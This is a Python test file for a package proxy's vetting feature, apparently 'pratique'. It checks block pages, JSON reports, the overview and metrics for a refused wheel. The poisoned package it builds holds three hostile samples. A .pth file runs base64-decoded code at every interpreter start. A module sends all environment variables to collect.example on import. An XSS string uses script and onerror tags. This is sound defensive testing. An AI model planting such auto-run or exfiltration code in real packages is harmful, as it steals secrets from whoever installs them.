"""What people see of vetting: the block page of a file that it holds, the overview, the metrics."""

from __future__ import annotations

import base64
import html
import os
import re
import shutil
import subprocess
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from kit.environments import unavailable
from kit.shop import OLD, OpenShop, Shop

pytestmark = pytest.mark.slow  # most of them start vetting workers

VET = '[vet]\nmode = "inline"\nworkers = 1\nahead = false\n'
INERT = base64.b64encode(b"print('this is an inert look-alike')").decode()
PLAIN = {"demo/__init__.py": "VALUE = 1\n"}
PTH = (
    "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', "
    f"\"import base64; exec(base64.b64decode('{INERT}'))\"])\n"
)
MARKUP = "</pre><script>alert(1)</script><img src=x onerror=alert(2)>"
SENDER = f"""import os
import urllib.request

NOTE = "{MARKUP}"


def report():
    body = repr(dict(os.environ)).encode()
    urllib.request.urlopen("https://collect.example/{MARKUP}", data=body)


report()
"""
POISONED = {
    **PLAIN,
    "demo_init.pth": PTH,
    "demo/report.py": SENDER,
    "demo/__init__.py": "from demo import report\nVALUE = 1\n",
    f"demo/{MARKUP.replace('/', '')}.py": SENDER,
}


@pytest.fixture
def shop(open_shop: OpenShop) -> Shop:
    return open_shop(settings=VET)


def refused(shop: Shop, filename: str) -> str:
    """The path of the block page that a refusal names."""
    answer = shop.door.ask("/pypi" + shop.upstream.projects["demo"].files[filename].path)
    assert answer.status == 403, answer.body
    return str(answer.json["block"]).removeprefix(shop.door.url)


def poisoned(shop: Shop) -> str:
    shop.publish("demo", "1.0", files=PLAIN)
    return refused(shop, shop.publish("demo", "1.1", files=POISONED))


def page(shop: Shop, path: str) -> str:
    answer = shop.door.ask(path, headers={"Accept": "text/html"})
    assert answer.status == 200, answer.body
    return answer.body.decode()


def twin(shop: Shop, path: str) -> Any:
    return shop.door.ask(path + "?format=json").json


class Tags(HTMLParser):
    """Every tag and attribute of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.slow
def test_the_block_page_shows_what_vetting_found(shop: Shop) -> None:
    path = poisoned(shop)
    text = re.sub(r"<[^>]+>", "", page(shop, path))
    shown = html.unescape(text)
    digest = shop.upstream.projects["demo"].files["demo-1.1-py3-none-any.whl"].hashes["sha256"]
    for wanted in (
        "malicious",
        "compared with demo-1.0-py3-none-any.whl",
        "demo_init.pth:1:",
        "runs at every start of the interpreter",
        "Why it matters",
        "Honest reasons",
        "New powers over its predecessor",
        "pratique exposed demo==1.1",
        f"pratique audits add {digest} --verdict clean",
        "Nobody has reviewed this file here.",
    ):
        assert wanted in shown, wanted
    assert re.search(r"T1\d{3}", shown)


@pytest.mark.slow
def test_its_twin_has_the_same_as_values(shop: Shop) -> None:
    found = twin(shop, poisoned(shop))["vetting"]
    assert found["verdict"] == "malicious"
    assert found["regime"] == "diff"
    assert {"demo_init.pth", "demo/report.py"} <= {place["path"] for place in found["places"]}
    first = found["places"][0]["findings"][0]
    assert first["what"]
    assert first["danger"]
    assert first["benign"]
    assert {"network", "process"} <= {gain["capability"] for gain in found["gained"]}


@pytest.mark.slow
def test_markup_in_a_hostile_file_stays_text(shop: Shop) -> None:
    path = poisoned(shop)
    for where in (path, "/"):
        body = page(shop, where)
        tags = Tags()
        tags.feed(body)
        assert "script" not in tags.tags
        assert "img" not in tags.tags
        assert not [name for name in tags.attributes if name.startswith("on")]
    assert "<script>alert(1)" in text_of(page(shop, path))
    assert "<script>" in str(twin(shop, path)["vetting"]["places"])


def text_of(body: str) -> str:
    tags = Tags()
    tags.feed(body)
    return tags.text


@pytest.mark.slow
def test_what_was_not_examined_is_told(shop: Shop) -> None:
    name = shop.publish("demo", "1.0", files=PLAIN)
    content = shop.upstream.projects["demo"].files[name].content
    broken = "demo-1.1-py3-none-any.whl"
    shop.upstream.add_file("demo", broken, content[: len(content) // 2], upload_time=OLD)
    path = refused(shop, broken)
    assert "Not examined" in page(shop, path)
    found = twin(shop, path)["vetting"]
    assert (found["verdict"], bool(found["unread"])) == ("unknown", True)


@pytest.mark.slow
def test_why_the_score_did_not_count_in_full_is_told(shop: Shop) -> None:
    files = {"numpy/__init__.py": SENDER}
    filename = shop.publish("numpy", "1.0", files=files)
    answer = shop.door.ask("/pypi" + shop.upstream.projects["numpy"].files[filename].path)
    assert answer.status == 403, answer.body
    path = str(answer.json["block"]).removeprefix(shop.door.url)
    told = html.unescape(page(shop, path))
    assert "The score did not count in full: of a much-used project" in told
    headline = re.search(r"found suspicious: numpy/__init__.py:\d+ ([^.<]*)", told)
    assert headline is not None
    assert "hardly there" not in headline[1]  # the deed, not how small the release is


@pytest.mark.slow
def test_a_review_stands_beside_the_report(shop: Shop) -> None:
    path = poisoned(shop)
    command = twin(shop, path)["vetting"]["overrule"].split('"')[0].split()[1:]
    done = shop.door.command(
        *command, "looked at <b>every</b> line", "--reviewer", "alice", "--format", "json"
    )
    assert done.returncode == 0, done.stderr
    body = page(shop, path)
    assert "looked at &lt;b&gt;every&lt;/b&gt; line" in body
    assert twin(shop, path)["outcome"] == "allow"
    assert shop.door.ask("/?format=json").json["held"] == []


@pytest.mark.slow
def test_the_overview_leads_to_what_vetting_holds(shop: Shop) -> None:
    assert "Nothing now." in page(shop, "/")
    path = poisoned(shop)
    assert shop.door.entries("refusal")
    assert f'<a href="{path}">' in page(shop, "/").split("Last refusals")[0]
    [row] = shop.door.ask("/?format=json").json["held"]
    assert row["verdict"] == "malicious"
    first = twin(shop, path)["vetting"]["places"][0]
    assert row["headline"].startswith(f"{first['path']}:{first['line']} ")


@pytest.mark.slow
def test_metrics_count_verdicts_and_workers(shop: Shop) -> None:
    poisoned(shop)
    name = shop.upstream.projects["demo"].files["demo-1.0-py3-none-any.whl"]
    assert shop.door.ask("/pypi" + name.path).status == 200
    text = shop.door.ask("/metrics").body.decode()
    assert 'pratique_vetted_total{verdict="malicious"} 1.0' in text
    assert "pratique_vetting_workers 1.0" in text
    assert "pratique_vetting_workers_busy 0.0" in text
    assert re.search(r"pratique_vetting_seconds_count [12]\.0", text)
    assert "demo" not in text


@pytest.mark.chromium
@pytest.mark.slow
def test_the_report_in_a_real_browser(shop: Shop, tmp_path: Path) -> None:
    browser = shutil.which("chromium") or shutil.which("chromium-browser")
    if browser is None:
        unavailable("chromium is not installed")
    path = poisoned(shop)
    kept = Path(os.environ.get("PRATIQUE_TEST_SCREENSHOTS") or tmp_path)
    for name, where, size, dark in (
        ("light", path, "1000,2600", False),
        ("dark", path, "1000,4200", True),
        ("narrow", path, "500,2600", False),
        ("overview", "/", "1000,1400", False),
    ):
        shot = kept / f"vetting-{name}.png"
        said = subprocess.run(
            [
                browser,
                *("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic"),
                *("--no-first-run", "--disable-background-networking", "--hide-scrollbars"),
                *("--disable-component-update", "--disable-sync"),
                *(["--blink-settings=preferredColorScheme=0"] if dark else []),
                f"--window-size={size}",
                f"--user-data-dir={tmp_path / name}",
                f"--screenshot={shot}",
                shop.door.url + where,
            ],
            capture_output=True,
            timeout=150,
            check=True,
            env={"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "LANG": "C.UTF-8"},
            cwd=tmp_path,
        )
        assert b"Refused to" not in said.stderr, "the page breaks its own policy"
        assert shot.stat().st_size > 5_000
